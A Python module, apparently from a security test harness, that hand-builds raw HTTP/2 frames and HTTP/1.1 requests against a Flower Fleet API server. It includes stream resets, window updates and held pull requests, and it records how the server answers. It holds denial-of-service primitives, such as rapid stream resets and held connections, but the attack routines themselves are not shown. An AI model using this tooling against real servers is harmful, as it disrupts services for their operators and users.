"""HTTP as an attacker makes it, and a connection that keeps no rules.

Source: https://www.rfc-editor.org/rfc/rfc9113 and rfc7541
"""

from __future__ import annotations

import re
import ssl
import struct
from collections import Counter
from collections.abc import Mapping, Sequence
from enum import IntEnum

import attrs
import hpack
import trio
from h2.errors import ErrorCodes

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
LARGEST_FRAME = 16_384
LARGEST_WINDOW = 2**31 - 1

_HEAD = 9
_READ = 65_536
_CONNECT = 10.0
_STATUS = re.compile(rb"HTTP/1\.1 (\d{3})")


class Kind(IntEnum):
    """The types of frames."""

    DATA = 0
    HEADERS = 1
    PRIORITY = 2
    RST_STREAM = 3
    SETTINGS = 4
    PING = 6
    GOAWAY = 7
    WINDOW_UPDATE = 8
    CONTINUATION = 9


END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
MAX_CONCURRENT_STREAMS, INITIAL_WINDOW_SIZE = 0x3, 0x4


def frame(kind: Kind, flags: int, stream: int, payload: bytes) -> bytes:
    """Serialise one frame."""
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


def settings(values: Mapping[int, int]) -> bytes:
    """Serialise a SETTINGS frame."""
    payload = b"".join(struct.pack("!HI", number, value) for number, value in values.items())
    return frame(Kind.SETTINGS, 0, 0, payload)


def reset(stream: int) -> bytes:
    """Serialise the frame that gives a stream up."""
    return frame(Kind.RST_STREAM, 0, stream, struct.pack("!I", ErrorCodes.CANCEL))


def window_update(stream: int, size: int) -> bytes:
    """Serialise the frame that lets the server send more."""
    return frame(Kind.WINDOW_UPDATE, 0, stream, struct.pack("!I", size))


def block(fields: Sequence[tuple[bytes, bytes]]) -> bytes:
    """Encode header fields so that the bytes mean the same wherever they stand."""
    encoded: bytes = hpack.Encoder().encode(
        [hpack.NeverIndexedHeaderTuple(*field) for field in fields], huffman=False
    )
    return encoded


@attrs.frozen
class Target:
    """The Fleet API that is attacked, and what its calls look like."""

    host: str
    port: int
    rest: bool
    tls: ssl.SSLContext | None
    pull: bytes
    """A PullTaskInsRequest of a node for which large tasks are waiting."""
    idle_pull: bytes
    """A PullTaskInsRequest of an anonymous node, for which there are none: all of them are held."""

    def post(self, path: str, length: int | None) -> bytes:
        """Give the head of a call over REST; None is for a body in chunks."""
        body = "transfer-encoding: chunked" if length is None else f"content-length: {length}"
        media = "application/protobuf"
        return (
            f"POST /api/v0/fleet/{path} HTTP/1.1\r\nhost: localhost\r\n{body}\r\n"
            f"content-type: {media}\r\naccept: {media}\r\n\r\n"
        ).encode()

    def fields(self, call: str) -> list[tuple[bytes, bytes]]:
        """Give the header fields of a call over gRPC."""
        return [
            (b":method", b"POST"),
            (b":scheme", b"http" if self.tls is None else b"https"),
            (b":path", f"/flwr.proto.Fleet/{call}".encode()),
            (b":authority", b"localhost"),
            (b"content-type", b"application/grpc"),
            (b"te", b"trailers"),
        ]

    def body(self, message: bytes) -> bytes:
        """Give the bytes that carry a message in DATA frames."""
        return struct.pack("!BI", 0, len(message)) + message

    def call(self, stream: int, call: str, message: bytes) -> bytes:
        """Serialise a whole call: two frames."""
        return frame(Kind.HEADERS, END_HEADERS, stream, block(self.fields(call))) + frame(
            Kind.DATA, END_STREAM, stream, self.body(message)
        )


@attrs.define
class Tally:
    """What an attack sent, and what the server did about it."""

    frames: int = 0
    connections: int = 0
    refused_connections: int = 0
    ended: int = 0
    """Connections that the server ended."""
    received: int = 0
    """Bytes."""
    said: Counter[str] = attrs.field(factory=Counter)
    """GOAWAY and RST_STREAM with their codes, HTTP/1.1 answers with their status."""

    def summary(self) -> str:
        """Say in a few words what the server did."""
        said = [f"{what} ({count:,})" for what, count in self.said.most_common(3)]
        if self.ended:
            said.append(f"ended {self.ended:,} connections")
        if self.refused_connections:
            said.append(f"did not accept {self.refused_connections:,}")
        return ", ".join(said) or "served on"


class Ended(Exception):
    """The server ended the connection."""


class Wire:
    """A connection to a target, whose every byte is the attacker's choice."""

    def __init__(self, stream: trio.abc.Stream, tally: Tally) -> None:
        self._stream = stream
        self._tally = tally
        self._buffer = bytearray()
        self._skip = 0

    async def send(self, data: bytes, frames: int) -> None:
        """Send bytes as they are. Raises Ended."""
        try:
            await self._stream.send_all(data)
        except (trio.BrokenResourceError, trio.ClosedResourceError):
            raise Ended from None
        self._tally.frames += frames

    async def read_frames(self) -> None:
        """Read until the server ends the connection, and note what it says. Raises Ended."""
        while True:
            self._buffer += await self._receive()
            while len(self._buffer) >= _HEAD:
                length = int.from_bytes(self._buffer[:3], "big")
                if len(self._buffer) < _HEAD + length:
                    break
                self._note(self._buffer[3], bytes(self._buffer[_HEAD : _HEAD + length]))
                del self._buffer[: _HEAD + length]

    async def read_text(self) -> None:
        """The same for a connection that speaks HTTP/1.1. Raises Ended."""
        while True:
            for status in _STATUS.findall(await self._receive()):
                self._tally.said[f"answer {status.decode()}"] += 1

    async def _receive(self) -> bytes:
        try:
            data = await self._stream.receive_some(_READ)
        except (trio.BrokenResourceError, trio.ClosedResourceError):
            raise Ended from None
        if not data:
            raise Ended
        self._tally.received += len(data)
        return bytes(data)

    def _note(self, kind: int, payload: bytes) -> None:
        if kind == Kind.GOAWAY:
            self._tally.said[f"GOAWAY {_code(payload[4:8])}"] += 1
        elif kind == Kind.RST_STREAM:
            self._tally.said[f"reset {_code(payload)}"] += 1


def _code(payload: bytes) -> str:
    number = int.from_bytes(payload, "big")
    try:
        return ErrorCodes(number).name
    except ValueError:
        return str(number)


async def connect(target: Target) -> trio.SocketStream:
    """Open a TCP connection. Raises OSError."""
    with trio.fail_after(_CONNECT):
        return await trio.open_tcp_stream(target.host, target.port)


async def secure(stream: trio.SocketStream, target: Target, protocol: str) -> trio.abc.Stream:
    """Shake hands, where the target speaks TLS. Raises trio.BrokenResourceError."""
    if target.tls is None:
        return stream
    target.tls.set_alpn_protocols([protocol])
    secured = trio.SSLStream(stream, target.tls, server_hostname="localhost", https_compatible=True)
    with trio.fail_after(_CONNECT):
        await secured.do_handshake()
    return secured
